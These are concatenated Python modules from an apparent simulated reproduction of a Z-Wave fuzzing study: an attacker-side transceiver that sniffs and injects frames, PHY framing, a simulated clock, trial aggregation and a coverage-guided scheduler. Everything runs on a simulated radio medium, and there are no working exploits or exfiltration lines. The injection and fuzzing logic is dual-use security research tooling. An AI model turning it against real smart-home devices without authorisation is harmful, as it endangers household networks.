def _render_params(cmd, params: bytes) -> str:
    """Render parameter bytes, naming the ones the schema defines.

    Schema-defined positions print as ``name=0xXX``; trailing undefined
    bytes fall back to raw hex.  Long opaque runs (encapsulation blobs)
    stay as hex for readability.
    """
    if not params:
        return "-"
    if cmd is None or not cmd.params or len(params) > 8:
        return params.hex()
    rendered = []
    for index, value in enumerate(params):
        param = cmd.param_at(index)
        if param is not None:
            rendered.append(f"{param.name}=0x{value:02X}")
        else:
            rendered.append(f"0x{value:02X}")
    return " ".join(rendered)


def dissect_trace(
    records: Iterable[TraceRecord], registry: Optional[SpecRegistry] = None
) -> str:
    """Dissect a whole trace into a printable transcript."""
    registry = registry or load_full_registry()
    return "\n".join(dissect(record, registry) for record in records)
