"""The attacker-side transceiver: a simulated YardStick-One-class dongle.

The paper's experiment environment uses "the Yardstick dongle as the Z-Wave
transceiver due to its support from the open-source community", attached to
a laptop 10-70 m from the target.  :class:`Transceiver` models exactly the
capabilities ZCover needs from it: configure frequency and data rate, sniff
promiscuously into a capture buffer, and inject crafted frames.

Per Figure 4, "ZCover verifies that the Z-Wave transceiver dongle is
configured with a valid radio frequency and sampling rate (e.g., 868 or 908
MHz)" — misconfiguration raises :class:`TransceiverError` before any frame
moves.
"""

from __future__ import annotations

from collections import deque
from dataclasses import dataclass
from typing import Deque, List, Optional, Tuple

from ..errors import TransceiverError
from ..zwave.constants import DATA_RATES_KBAUD, Region
from ..zwave.frame import FrameView, ZWaveFrame, lenient_view
from .clock import SimClock
from .medium import RadioMedium, Reception

#: Capture buffer depth; the oldest captures roll off, like a real dongle.
CAPTURE_BUFFER_SIZE = 4096


@dataclass(frozen=True, slots=True)
class CapturedFrame:
    """One sniffed frame with its radio metadata.

    ``frame`` is a zero-copy :class:`~repro.zwave.frame.FrameView` over
    ``raw`` (``None`` when the buffer is not dissectable): fields decode
    lazily on first touch, so captures that are only length-filtered or
    ack-scanned never pay for a full parse.
    """

    raw: bytes
    frame: Optional[FrameView]
    rssi_dbm: float
    timestamp: float
    bit_errors: int

    @property
    def decoded(self) -> bool:
        return self.frame is not None


class Transceiver:
    """A sniff/inject dongle attached to the simulated medium."""

    def __init__(
        self,
        medium: RadioMedium,
        clock: SimClock,
        name: str = "dongle",
        position: Tuple[float, float] = (0.0, 0.0),
    ):
        self._medium = medium
        self._clock = clock
        self._name = name
        self._position = position
        self._region: Optional[Region] = None
        self._rate_kbaud: Optional[float] = None
        self._captures: Deque[CapturedFrame] = deque(maxlen=CAPTURE_BUFFER_SIZE)
        self._attached = False
        self._injected = 0

    # -- configuration ------------------------------------------------------------

    def configure(self, region: Region, rate_kbaud: float) -> None:
        """Tune the dongle; validates frequency and sampling rate."""
        if not isinstance(region, Region):
            raise TransceiverError(f"{region!r} is not a valid Z-Wave region")
        if rate_kbaud not in DATA_RATES_KBAUD:
            raise TransceiverError(
                f"data rate {rate_kbaud} kbaud is not one of {DATA_RATES_KBAUD}"
            )
        self._region = region
        self._rate_kbaud = rate_kbaud
        if not self._attached:
            self._medium.attach(
                self._name,
                self._position,
                region,
                self._on_receive,
                promiscuous=True,
            )
            self._attached = True

    @property
    def configured(self) -> bool:
        return self._region is not None and self._rate_kbaud is not None

    @property
    def region(self) -> Optional[Region]:
        return self._region

    @property
    def rate_kbaud(self) -> Optional[float]:
        return self._rate_kbaud

    @property
    def frames_injected(self) -> int:
        return self._injected

    def _require_configured(self) -> None:
        if not self.configured:
            raise TransceiverError(
                "transceiver must be configured with a valid RF region and "
                "sampling rate before use"
            )

    # -- receive path ----------------------------------------------------------------

    def _on_receive(self, reception: Reception) -> None:
        # Zero-copy capture: wrap the buffer in a lazy view (None when the
        # length makes it undissectable) instead of eagerly decoding every
        # sniffed frame — most captures are only ack-scanned or dst-filtered.
        self._captures.append(
            CapturedFrame(
                raw=reception.raw,
                frame=lenient_view(reception.raw),
                rssi_dbm=reception.rssi_dbm,
                timestamp=reception.timestamp,
                bit_errors=reception.bit_errors,
            )
        )

    def captures(self) -> List[CapturedFrame]:
        """Snapshot of the capture buffer (oldest first)."""
        return list(self._captures)

    def drain_captures(self) -> List[CapturedFrame]:
        """Return and clear the capture buffer."""
        captured = list(self._captures)
        self._captures.clear()
        return captured

    def clear_captures(self) -> None:
        self._captures.clear()

    # -- transmit path ----------------------------------------------------------------

    def inject(self, frame: ZWaveFrame) -> float:
        """Encode and transmit *frame*; returns the airtime in seconds."""
        self._require_configured()
        self._injected += 1
        return self._medium.transmit(self._name, frame.encode(), self._rate_kbaud)

    def inject_raw(self, raw: bytes) -> float:
        """Transmit pre-encoded (possibly malformed) frame bytes."""
        self._require_configured()
        self._injected += 1
        return self._medium.transmit(self._name, raw, self._rate_kbaud)

    def inject_and_wait(self, frame: ZWaveFrame, settle: float = 0.01) -> None:
        """Inject and advance the clock past delivery + processing."""
        airtime = self.inject(frame)
        self._clock.advance(airtime + settle)

    # -- positioning -------------------------------------------------------------------

    def move_to(self, position: Tuple[float, float]) -> None:
        """Relocate the dongle (e.g. the attacker approaching the house)."""
        self._position = position
        if self._attached:
            self._medium.move(self._name, position)

    @property
    def position(self) -> Tuple[float, float]:
        return self._position
