"""Bit-level PHY framing for the simulated air interface.

The passive scanner of Figure 4 starts from "raw binary data" and must
"filter out the noise by removing specific repetitive bytes in the signal".
To give that pipeline something real to chew on, frames travel over the
simulated medium as PHY bitstreams::

    PREAMBLE (0x55 × n) | SOF (0xF0) | Manchester(R1) or NRZ(R2/R3) data

R1 (9.6 kbaud) uses Manchester coding, R2/R3 use NRZ, matching ITU-T
G.9959.  Decoding tolerates leading noise bits and strips the repetitive
preamble — exactly the "packet capturing" step of the paper.
"""

from __future__ import annotations

from typing import List, Optional, Tuple

from ..errors import RadioError

PREAMBLE_BYTE = 0x55
SOF_BYTE = 0xF0
DEFAULT_PREAMBLE_LENGTH = 10


def bytes_to_bits(data: bytes) -> List[int]:
    """Expand bytes into a most-significant-bit-first bit list."""
    bits: List[int] = []
    for byte in data:
        for shift in range(7, -1, -1):
            bits.append((byte >> shift) & 1)
    return bits


def bits_to_bytes(bits: List[int]) -> bytes:
    """Pack a bit list (MSB first) into bytes; length must be a multiple of 8."""
    if len(bits) % 8:
        raise RadioError(f"bit stream of {len(bits)} bits is not byte aligned")
    out = bytearray()
    for offset in range(0, len(bits), 8):
        value = 0
        for bit in bits[offset : offset + 8]:
            value = (value << 1) | (bit & 1)
        out.append(value)
    return bytes(out)


def manchester_encode(bits: List[int]) -> List[int]:
    """IEEE-convention Manchester: 0 → 01, 1 → 10."""
    out: List[int] = []
    for bit in bits:
        out.extend((1, 0) if bit else (0, 1))
    return out


def manchester_decode(symbols: List[int]) -> List[int]:
    """Invert :func:`manchester_encode`; raises on an invalid symbol pair."""
    if len(symbols) % 2:
        raise RadioError("Manchester stream must have an even number of symbols")
    bits: List[int] = []
    for i in range(0, len(symbols), 2):
        pair = (symbols[i], symbols[i + 1])
        if pair == (1, 0):
            bits.append(1)
        elif pair == (0, 1):
            bits.append(0)
        else:
            raise RadioError(f"invalid Manchester symbol pair {pair} at offset {i}")
    return bits


def encode_phy(
    frame_bytes: bytes,
    rate_kbaud: float,
    preamble_length: int = DEFAULT_PREAMBLE_LENGTH,
) -> List[int]:
    """Wrap MAC *frame_bytes* into a PHY bitstream at *rate_kbaud*."""
    if preamble_length < 1:
        raise RadioError("preamble must be at least one byte")
    header = bytes([PREAMBLE_BYTE] * preamble_length + [SOF_BYTE])
    data_bits = bytes_to_bits(frame_bytes)
    if rate_kbaud <= 9.6:
        data_bits = manchester_encode(data_bits)
    return bytes_to_bits(header) + data_bits


def decode_phy(bits: List[int], rate_kbaud: float) -> bytes:
    """Recover MAC bytes from a PHY bitstream.

    Scans for the first ``PREAMBLE | SOF`` byte boundary (tolerating
    arbitrary leading noise bits), strips the repetitive preamble, then
    reverses the line coding.
    """
    sof_bits = bytes_to_bits(bytes([PREAMBLE_BYTE, SOF_BYTE]))
    start = _find_pattern(bits, sof_bits)
    if start is None:
        raise RadioError("no start-of-frame delimiter found in bit stream")
    data_bits = bits[start + len(sof_bits) :]
    if rate_kbaud <= 9.6:
        usable = len(data_bits) - len(data_bits) % 16
        data_bits = manchester_decode(data_bits[:usable])
    else:
        data_bits = data_bits[: len(data_bits) - len(data_bits) % 8]
    return bits_to_bytes(data_bits)


def _find_pattern(bits: List[int], pattern: List[int]) -> Optional[int]:
    """Index of the first match of *pattern* in *bits*.

    In a well-formed stream the preamble and SOF precede all data, so the
    first ``0x55 | 0xF0`` boundary is the true frame start; leading channel
    noise can in principle fake the pattern, which mirrors the real-world
    false-sync behaviour of a sub-GHz receiver.
    """
    n, m = len(bits), len(pattern)
    for i in range(n - m + 1):
        if bits[i : i + m] == pattern:
            return i
    return None


def airtime_seconds(frame_bytes: bytes, rate_kbaud: float, preamble_length: int = DEFAULT_PREAMBLE_LENGTH) -> float:
    """Transmission duration of a frame at *rate_kbaud*."""
    bits = (preamble_length + 1 + len(frame_bytes)) * 8
    if rate_kbaud <= 9.6:
        bits += len(frame_bytes) * 8  # Manchester doubles the data symbols.
    return bits / (rate_kbaud * 1000.0)


def corrupt_bits(bits: List[int], positions: Tuple[int, ...]) -> List[int]:
    """Return a copy of *bits* with the given positions flipped (noise)."""
    noisy = list(bits)
    for pos in positions:
        if 0 <= pos < len(noisy):
            noisy[pos] ^= 1
    return noisy
