"""Discrete-event simulated time.

Every duration in the reproduction — fuzzing trials, hang durations, NOP
ping timeouts, frame airtime — is measured against :class:`SimClock`, so a
"24-hour" campaign runs in milliseconds of wall time while preserving the
ordering and rates the paper reports (≈800 test packets in the first 600
seconds, Figure 12).
"""

from __future__ import annotations

import heapq
import itertools
import time
from typing import Any, Callable, List, Optional, Tuple

from ..errors import RadioError

#: Sentinel argument for closure-style events: ``schedule`` stores it in
#: the arg slot so the drain loop can tell ``fn()`` events from ``fn(arg)``
#: events without a per-event closure or type dispatch.
_NO_ARG = object()


def wall_monotonic() -> float:
    """Real monotonic seconds, for wall-clock *profiling* only.

    This module is the lint D101 entropy/time owner — the single
    sanctioned wall-clock read in the tree.  Tracing spans
    (:mod:`repro.obs.tracing`) use it to report where worker wall time
    goes; nothing derived from it may enter a deterministic artefact
    (reports, wire forms, metrics documents).
    """
    return time.monotonic()


def wall_perf_counter_ns() -> int:
    """Highest-resolution wall clock in integer nanoseconds.

    The microbenchmark harness (:mod:`repro.perf`) times hot-path
    workloads with this; like :func:`wall_monotonic` it lives here so the
    D101 determinism rule keeps every other module off the wall clock.
    Timings read from it are *measurements*, never inputs: the perf
    document separates them from the seeded workload checksums, which
    alone are compared byte-for-byte.
    """
    return time.perf_counter_ns()


def wall_sleep(seconds: float) -> None:
    """Block the calling thread for *seconds* of real time.

    The job-service client (:mod:`repro.serve.client`) polls job status
    with this between requests.  ``time.sleep`` is not itself a D101
    violation (it produces no value that could leak into output), but
    routing it through the clock owner keeps every wall-time touchpoint
    in one audited module and lets tests monkeypatch the delay away.
    """
    time.sleep(seconds)


class SimClock:
    """A monotonically advancing simulated clock with a batched event queue.

    The queue is a heap of ``(fire_at, seq, fn, arg)`` records.  ``seq``
    (a monotonically increasing counter) is the tie-break: events sharing
    a fire time drain in the order they were scheduled, which is the
    ordering contract the whole byte-identity story rests on — rng draw
    order, ack interleaving and wire bytes all derive from it.

    Two event shapes share the heap.  Closure events (:meth:`schedule`)
    carry the :data:`_NO_ARG` sentinel and fire as ``fn()``; batched
    events (:meth:`schedule_call`) carry a payload argument and fire as
    ``fn(arg)`` — the radio medium uses the latter to deliver one
    transmission to N listeners with a single heap record instead of N
    closures.
    """

    def __init__(self, start: float = 0.0):
        self._now = float(start)
        self._queue: List[Tuple[float, int, Callable, Any]] = []
        self._counter = itertools.count()
        self._cancelled: set = set()

    @property
    def now(self) -> float:
        """Current simulated time in seconds."""
        return self._now

    # -- scheduling -----------------------------------------------------------

    def schedule(self, delay: float, callback: Callable[[], None]) -> int:
        """Run *callback* after *delay* seconds; returns a cancellable id."""
        if delay < 0:
            raise RadioError(f"cannot schedule {delay}s in the past")
        event_id = next(self._counter)
        heapq.heappush(self._queue, (self._now + delay, event_id, callback, _NO_ARG))
        return event_id

    def schedule_call(self, delay: float, fn: Callable[[Any], None], arg: Any) -> int:
        """Run ``fn(arg)`` after *delay* seconds; returns a cancellable id.

        The arg-carrying twin of :meth:`schedule`: the callable and its
        payload ride the heap record directly, so hot paths (frame
        delivery above all) schedule without allocating a closure cell
        per event.  Ordering is identical — both shapes share one
        ``(fire_at, seq)`` key space.
        """
        if delay < 0:
            raise RadioError(f"cannot schedule {delay}s in the past")
        event_id = next(self._counter)
        heapq.heappush(self._queue, (self._now + delay, event_id, fn, arg))
        return event_id

    def cancel(self, event_id: int) -> None:
        """Cancel a scheduled event (no-op if already fired)."""
        self._cancelled.add(event_id)

    @property
    def pending_events(self) -> int:
        """Number of events still scheduled (including cancelled ones)."""
        return len(self._queue)

    # -- advancing --------------------------------------------------------------

    def advance(self, duration: float) -> None:
        """Move time forward by *duration*, firing due events in order."""
        if duration < 0:
            raise RadioError("cannot advance time backwards")
        self.advance_to(self._now + duration)

    def advance_to(self, deadline: float) -> None:
        """Move time forward to *deadline*, firing due events in order.

        This is the engine's drain loop: every due event — batched
        deliveries included — fires in strict ``(fire_at, seq)`` order.
        Locals are bound once because a fuzzing campaign spends most of
        its wall clock inside this loop.
        """
        if deadline < self._now:
            raise RadioError("cannot advance time backwards")
        queue = self._queue
        cancelled = self._cancelled
        pop = heapq.heappop
        while queue and queue[0][0] <= deadline:
            fire_at, event_id, fn, arg = pop(queue)
            if fire_at > self._now:
                self._now = fire_at
            if cancelled and event_id in cancelled:
                cancelled.discard(event_id)
                continue
            if arg is _NO_ARG:
                fn()
            else:
                fn(arg)
        self._now = deadline

    def run_next(self) -> bool:
        """Fire the single next event; ``False`` when the queue is empty."""
        while self._queue:
            fire_at, event_id, fn, arg = heapq.heappop(self._queue)
            if event_id in self._cancelled:
                self._cancelled.discard(event_id)
                continue
            self._now = max(self._now, fire_at)
            if arg is _NO_ARG:
                fn()
            else:
                fn(arg)
            return True
        return False

    def drain(self, limit: Optional[int] = None) -> int:
        """Fire events until the queue empties (or *limit* fire)."""
        fired = 0
        while self.run_next():
            fired += 1
            if limit is not None and fired >= limit:
                break
        return fired


class Stopwatch:
    """Measure elapsed simulated time against a :class:`SimClock`."""

    def __init__(self, clock: SimClock):
        self._clock = clock
        self._start = clock.now

    def restart(self) -> None:
        self._start = self._clock.now

    @property
    def elapsed(self) -> float:
        return self._clock.now - self._start
