"""Multi-trial orchestration and aggregation.

"Following recommended fuzzing practices, we conducted five 24-hour
fuzzing trials for each controller" (Section IV, experiment environment).
This module runs the repeated trials with distinct seeds and aggregates
the statistics a fuzzing evaluation reports: unique-finding counts per
trial, the union/intersection of findings, and per-bug discovery-time
means and spreads.
"""

from __future__ import annotations

import statistics
from dataclasses import dataclass, field
from typing import Dict, List, Tuple

from .campaign import CampaignResult, DAY, Mode, run_campaign


@dataclass(frozen=True)
class BugTimingStats:
    """Discovery-time statistics for one bug across trials."""

    bug_id: int
    hits: int  # trials in which the bug was found
    mean_time: float
    stdev_time: float
    mean_packets: float


@dataclass
class TrialSummary:
    """Aggregated outcome of repeated fuzzing trials."""

    device: str
    mode: Mode
    duration: float
    trials: List[CampaignResult] = field(default_factory=list)

    @property
    def n_trials(self) -> int:
        return len(self.trials)

    @property
    def unique_counts(self) -> Tuple[int, ...]:
        return tuple(t.unique_vulnerabilities for t in self.trials)

    @property
    def mean_unique(self) -> float:
        return statistics.fmean(self.unique_counts) if self.trials else 0.0

    @property
    def union_bug_ids(self) -> Tuple[int, ...]:
        """Bugs found in at least one trial."""
        found = set()
        for trial in self.trials:
            found |= set(trial.matched_bug_ids)
        return tuple(sorted(found))

    @property
    def intersection_bug_ids(self) -> Tuple[int, ...]:
        """Bugs found in every trial (the reliably-reproducible core)."""
        if not self.trials:
            return ()
        common = set(self.trials[0].matched_bug_ids)
        for trial in self.trials[1:]:
            common &= set(trial.matched_bug_ids)
        return tuple(sorted(common))

    def timing_stats(self) -> List[BugTimingStats]:
        """Per-bug discovery-time statistics across the trials."""
        times: Dict[int, List[Tuple[float, int]]] = {}
        for trial in self.trials:
            for unique in trial.unique.values():
                if unique.bug_id is None:
                    continue
                times.setdefault(unique.bug_id, []).append(
                    (unique.first_detection_time, unique.first_detection_packet)
                )
        stats: List[BugTimingStats] = []
        for bug_id in sorted(times):
            samples = times[bug_id]
            t_values = [t for t, _ in samples]
            p_values = [p for _, p in samples]
            stats.append(
                BugTimingStats(
                    bug_id=bug_id,
                    hits=len(samples),
                    mean_time=statistics.fmean(t_values),
                    stdev_time=statistics.stdev(t_values) if len(t_values) > 1 else 0.0,
                    mean_packets=statistics.fmean(p_values),
                )
            )
        return stats

    def render(self) -> str:
        """Human-readable summary table."""
        lines = [
            f"{self.n_trials} x {self.duration / 3600:.0f}h trials of "
            f"{self.mode.value} on {self.device}",
            f"unique findings per trial: {list(self.unique_counts)} "
            f"(mean {self.mean_unique:.1f})",
            f"found in every trial : {list(self.intersection_bug_ids)}",
            f"found in any trial   : {list(self.union_bug_ids)}",
            "",
            "bug   hits  mean t(s)  stdev(s)  mean packets",
        ]
        for s in self.timing_stats():
            lines.append(
                f"#{s.bug_id:02d}   {s.hits}/{self.n_trials}   "
                f"{s.mean_time:8.1f}  {s.stdev_time:8.1f}  {s.mean_packets:10.0f}"
            )
        return "\n".join(lines)


def run_trials(
    device: str = "D1",
    mode: Mode = Mode.FULL,
    n_trials: int = 5,
    duration: float = DAY,
    base_seed: int = 0,
) -> TrialSummary:
    """Run *n_trials* independent campaigns with distinct seeds."""
    summary = TrialSummary(device=device, mode=mode, duration=duration)
    for trial_index in range(n_trials):
        summary.trials.append(
            run_campaign(
                device=device,
                mode=mode,
                duration=duration,
                seed=base_seed + 1000 * trial_index,
            )
        )
    return summary
