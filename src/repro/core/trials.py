"""Multi-trial orchestration and aggregation.

"Following recommended fuzzing practices, we conducted five 24-hour
fuzzing trials for each controller" (Section IV, experiment environment).
This module runs the repeated trials with distinct seeds and aggregates
the statistics a fuzzing evaluation reports: unique-finding counts per
trial, the union/intersection of findings, and per-bug discovery-time
means and spreads.

Trials are independent, so ``run_trials(workers=N)`` shards them across a
process pool (:mod:`repro.core.parallel`); the merge step reassembles the
results in seed order, making the parallel output identical to a serial
run.  A shard that keeps crashing surfaces in ``TrialSummary.failures``
instead of discarding the surviving trials.
"""

from __future__ import annotations

import statistics
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from ..obs.metrics import MetricsSnapshot, harness_snapshot, merge_all, merge_snapshots
from .campaign import CampaignResult, DAY, Mode, run_campaign


@dataclass(frozen=True)
class BugTimingStats:
    """Discovery-time statistics for one bug across trials."""

    bug_id: int
    hits: int  # trials in which the bug was found
    mean_time: float
    stdev_time: float
    mean_packets: float


@dataclass
class TrialSummary:
    """Aggregated outcome of repeated fuzzing trials."""

    device: str
    mode: Mode
    duration: float
    trials: List[CampaignResult] = field(default_factory=list)
    #: Structured records of shards that never produced a result
    #: (:class:`repro.core.parallel.UnitFailure`); empty on a clean run.
    failures: List[object] = field(default_factory=list)
    #: Executor-side metrics (unit counts, retries, failure categories);
    #: built identically by the serial loop and the parallel merge.
    harness_metrics: Optional[MetricsSnapshot] = None

    @property
    def n_trials(self) -> int:
        return len(self.trials)

    @property
    def unique_counts(self) -> Tuple[int, ...]:
        return tuple(t.unique_vulnerabilities for t in self.trials)

    @property
    def mean_unique(self) -> float:
        return statistics.fmean(self.unique_counts) if self.trials else 0.0

    @property
    def union_bug_ids(self) -> Tuple[int, ...]:
        """Bugs found in at least one trial."""
        found = set()
        for trial in self.trials:
            found |= set(trial.matched_bug_ids)
        return tuple(sorted(found))

    @property
    def intersection_bug_ids(self) -> Tuple[int, ...]:
        """Bugs found in every trial (the reliably-reproducible core)."""
        if not self.trials:
            return ()
        common = set(self.trials[0].matched_bug_ids)
        for trial in self.trials[1:]:
            common &= set(trial.matched_bug_ids)
        return tuple(sorted(common))

    def timing_stats(self) -> List[BugTimingStats]:
        """Per-bug discovery-time statistics across the trials."""
        times: Dict[int, List[Tuple[float, int]]] = {}
        for trial in self.trials:
            for unique in trial.unique.values():
                if unique.bug_id is None:
                    continue
                times.setdefault(unique.bug_id, []).append(
                    (unique.first_detection_time, unique.first_detection_packet)
                )
        stats: List[BugTimingStats] = []
        for bug_id in sorted(times):
            samples = times[bug_id]
            t_values = [t for t, _ in samples]
            p_values = [p for _, p in samples]
            stats.append(
                BugTimingStats(
                    bug_id=bug_id,
                    hits=len(samples),
                    mean_time=statistics.fmean(t_values),
                    stdev_time=statistics.stdev(t_values) if len(t_values) > 1 else 0.0,
                    mean_packets=statistics.fmean(p_values),
                )
            )
        return stats

    def merged_metrics(self) -> MetricsSnapshot:
        """Every trial's snapshot plus the harness snapshot, merged."""
        merged = merge_all(
            trial.metrics for trial in self.trials if trial.metrics is not None
        )
        if self.harness_metrics is not None:
            merged = merge_snapshots(merged, self.harness_metrics)
        return merged

    def metrics_document(self) -> dict:
        """The schema-v1 ``--metrics-out`` document for this summary."""
        from ..obs.export import snapshot_to_document

        return snapshot_to_document(
            self.merged_metrics(),
            meta={
                "kind": "trials",
                "device": self.device,
                "mode": self.mode.name,
                "duration_s": self.duration,
                "trials": self.n_trials,
                "failures": len(self.failures),
            },
        )

    def render(self) -> str:
        """Human-readable summary table."""
        lines = [
            f"{self.n_trials} x {self.duration / 3600:.0f}h trials of "
            f"{self.mode.value} on {self.device}",
            f"unique findings per trial: {list(self.unique_counts)} "
            f"(mean {self.mean_unique:.1f})",
            f"found in every trial : {list(self.intersection_bug_ids)}",
            f"found in any trial   : {list(self.union_bug_ids)}",
            "",
            "bug   hits  mean t(s)  stdev(s)  mean packets",
        ]
        for s in self.timing_stats():
            lines.append(
                f"#{s.bug_id:02d}   {s.hits}/{self.n_trials}   "
                f"{s.mean_time:8.1f}  {s.stdev_time:8.1f}  {s.mean_packets:10.0f}"
            )
        for failure in self.failures:
            lines.append(failure.render())
        return "\n".join(lines)


#: Seed spacing between trials of one summary (trial *i* runs with
#: ``base_seed + SEED_STRIDE * i``), kept well clear of the per-phase
#: seed-derivation XORs inside a campaign.
SEED_STRIDE = 1000


def trial_units(
    device: str,
    mode: Mode,
    n_trials: int,
    duration: float,
    base_seed: int,
    fault_plan: "Optional[FaultPlan]" = None,
    scheduler: str = "static",
) -> "List[CampaignUnit]":
    """The campaign units of one trial series, in canonical seed order.

    With *fault_plan*, every unit carries the serialised plan (the worker
    compiles it against its own seed) plus its worker-layer fault token —
    resolved here, on the parent side, because targeting by
    ``unit_index`` needs the unit's place in the series.
    """
    from ..faults.plan import dumps_plan
    from ..faults.schedule import FaultPlanner
    from .parallel import CampaignUnit

    plan_json = None if fault_plan is None else dumps_plan(fault_plan)
    units = []
    for trial_index in range(n_trials):
        seed = base_seed + SEED_STRIDE * trial_index
        token = None
        if fault_plan is not None:
            token = FaultPlanner(fault_plan).compile(seed).worker_token(trial_index)
        units.append(
            CampaignUnit(
                device=device,
                mode=mode,
                duration=duration,
                seed=seed,
                fault=token,
                fault_plan_json=plan_json,
                scheduler=scheduler,
            )
        )
    return units


def run_trials(
    device: str = "D1",
    mode: Mode = Mode.FULL,
    n_trials: int = 5,
    duration: float = DAY,
    base_seed: int = 0,
    workers: int = 1,
    timeout: Optional[float] = None,
    fault_plan: "Optional[FaultPlan]" = None,
    backoff: "Optional[BackoffPolicy]" = None,
    scheduler: str = "static",
) -> TrialSummary:
    """Run *n_trials* independent campaigns with distinct seeds.

    ``workers > 1`` shards the trials across a process pool; the result is
    identical to the serial run (``tests/test_parallel_determinism.py``).

    With *fault_plan* every trial runs under the plan's deterministic
    fault injection (:mod:`repro.faults`).  A plan forces even the
    serial path through the unit executor so worker-layer faults and
    retry accounting apply identically at every worker count — the
    resilience audit's serial/parallel byte-identity depends on it.
    """
    if workers <= 1 and fault_plan is None and backoff is None:
        # The historical serial loop, kept free of executor machinery so
        # the parallel path has a reference output to be compared against.
        summary = TrialSummary(device=device, mode=mode, duration=duration)
        for trial_index in range(n_trials):
            summary.trials.append(
                run_campaign(
                    device=device,
                    mode=mode,
                    duration=duration,
                    seed=base_seed + SEED_STRIDE * trial_index,
                    scheduler=scheduler,
                )
            )
        # One clean attempt per unit, mirroring what merge_trials builds
        # from real executor outcomes, so --metrics-out documents are
        # byte-identical across worker counts.
        summary.harness_metrics = harness_snapshot(
            units=n_trials, attempts=[1] * n_trials, failure_categories=[]
        )
        return summary

    from .parallel import execute_units
    from .resultio import merge_trials

    units = trial_units(
        device, mode, n_trials, duration, base_seed, fault_plan, scheduler
    )
    outcomes = execute_units(
        units, workers=workers, timeout=timeout, backoff=backoff
    )
    return merge_trials(device, mode, duration, outcomes)
