"""Coverage-guided adaptive PSM scheduling (the CovFUZZ-style feedback loop).

The static campaign walks the CMDCL priority queue with one fixed C_T
window per class, replaying each class's deterministic mutation prefix on
every requeue pass.  That leaves the strongest feedback signal the system
already produces — the registry-checked CMDCL×CMD coverage bitmap the
controller dispatcher writes into :mod:`repro.obs` — completely unused.

:class:`CoverageScheduler` closes the loop:

* **probe sweep** — every CMDCL in the static priority order first gets a
  short probe window (``PROBE_FACTOR`` × C_T), so no class waits an hour
  behind high-priority duds;
* **adaptive energy** — after the sweep, windows are assigned by an
  ε-greedy policy: with probability ``EPSILON`` the least-fuzzed class is
  probed again (exploration), otherwise the class with the highest
  :meth:`~CoverageScheduler.energy_vector` score is revisited with a
  window scaled by its recent coverage novelty (exploitation);
* **resumable streams** — each class keeps one persistent mutation
  iterator, so a revisit continues where the previous window stopped
  instead of replaying the prefix from the top;
* **corpus** — frames whose dispatch grew the coverage bitmap are kept
  as seeds and preferentially re-mutated (seeded havoc) at the start of
  every revisit.

Determinism contract: the scheduler is a pure function of the campaign
seed and the (deterministic) coverage feedback.  Its only entropy source
is one generator seeded via the CRC-32 :func:`~repro.faults.schedule.derive_seed`
convention — never the builtin ``hash()`` (lint rule D104) — so the same
``(device, mode, seed, scheduler)`` produces byte-identical results in a
serial run and in every ``--workers N`` shard.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Dict, Iterable, Iterator, List, Optional, Sequence, Tuple

from ..faults.schedule import derive_seed
from ..obs.metrics import MetricsCollector
from ..zwave.application import ApplicationPayload
from ..zwave.registry import SpecRegistry
from .mutation import (
    INTERESTING_VALUES,
    MutationOperator,
    PositionSensitiveMutator,
    TestCase,
)

#: The ``scheduler=`` knob values accepted by campaigns, trials and the CLI.
SCHEDULERS: Tuple[str, ...] = ("static", "coverage")

#: Probe windows are this fraction of the configured C_T.
PROBE_FACTOR = 0.25
#: Exploit windows never exceed this multiple of C_T.
EXPLOIT_CAP = 2.5
#: Per-novel-frame window growth of an exploit window (in C_T units).
EXPLOIT_GAIN = 0.25
#: Exploration rate of the ε-greedy split.
EPSILON = 0.2
#: Corpus entries re-mutated per revisit, and havoc variants per entry.
CORPUS_READ_CAP = 4
CORPUS_VARIANTS = 2
#: Cap on the prefix-remaining term of the energy score (in frames).
PREFIX_TERM_CAP = 80

#: Decision reasons, as recorded in the scheduler trace and obs counters.
REASON_PROBE = "probe"
REASON_EXPLORE = "explore"
REASON_EXPLOIT = "exploit"


@dataclass(frozen=True)
class SchedulerDecision:
    """One scheduling step: fuzz *cmdcl* for a *window_s* quiet window."""

    cmdcl: int
    window_s: float
    reason: str


@dataclass
class CmdclEnergyState:
    """Per-class feedback accumulated across windows."""

    queue_pos: int
    frames: int = 0
    novel: int = 0
    windows: int = 0
    #: Coverage-novel frames of the most recent *completed* window — the
    #: freshness term of the energy score.
    last_novel: int = 0
    #: Novel frames of the window currently running (folded into
    #: ``last_novel`` when the window closes).
    window_novel: int = 0


def canonical_corpus(payloads: Iterable[bytes], cap: int = CORPUS_READ_CAP) -> Tuple[bytes, ...]:
    """The canonical read view of a corpus bucket: sorted, deduped, capped.

    Insertion order never matters — two campaigns that discovered the
    same coverage-novel payloads in different orders re-mutate the same
    seeds (``tests/test_scheduler_properties.py`` holds this line).
    """
    return tuple(sorted(set(payloads)))[:cap]


class CoverageScheduler:
    """Assigns per-CMDCL fuzzing energy from coverage-bitmap novelty.

    The scheduler owns three deterministic inputs: the static priority
    *queue* (exploration order and tie-break), the *collector* whose
    coverage bitmap the controller dispatcher writes, and one rng seeded
    from ``derive_seed(seed, "scheduler.coverage")`` for the ε-greedy
    split and corpus havoc.  :meth:`streams` is the engine-facing API —
    it yields ``(cmdcl, cases, window)`` stream tuples exactly like
    :func:`repro.core.fuzzer.psm_streams`, forever.
    """

    def __init__(
        self,
        queue: Sequence[int],
        registry: SpecRegistry,
        collector: MetricsCollector,
        mutator: PositionSensitiveMutator,
        seed: int,
        cmdcl_time: float = 60.0,
    ):
        if not queue:
            raise ValueError("coverage scheduler needs a non-empty CMDCL queue")
        self._queue: Tuple[int, ...] = tuple(queue)
        self._registry = registry
        self._collector = collector
        self._mutator = mutator
        self._cmdcl_time = float(cmdcl_time)
        self._rng = random.Random(derive_seed(seed, "scheduler.coverage"))
        self._states: Dict[int, CmdclEnergyState] = {
            cmdcl: CmdclEnergyState(queue_pos=pos)
            for pos, cmdcl in enumerate(self._queue)
        }
        self._sweep_index = 0
        self._iters: Dict[int, Iterator[TestCase]] = {}
        self._corpus: Dict[int, set] = {}
        self._corpus_total = 0
        self._trace: List[Tuple[int, float, str]] = []

    # -- public state ----------------------------------------------------------

    @property
    def queue(self) -> Tuple[int, ...]:
        return self._queue

    def trace(self) -> Tuple[Tuple[int, float, str], ...]:
        """Every decision so far as ``(cmdcl, window_s, reason)`` tuples."""
        return tuple(self._trace)

